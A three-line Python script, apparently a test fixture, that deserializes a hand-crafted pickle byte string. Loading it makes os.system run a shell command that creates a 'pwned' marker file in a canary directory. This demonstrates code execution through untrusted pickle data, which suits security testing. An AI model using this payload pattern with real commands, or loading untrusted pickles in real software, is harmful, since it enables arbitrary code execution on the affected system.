import pickle

print(pickle.loads(b"cos\nsystem\n(S'touch @CANARY@/pwned'\ntR."))
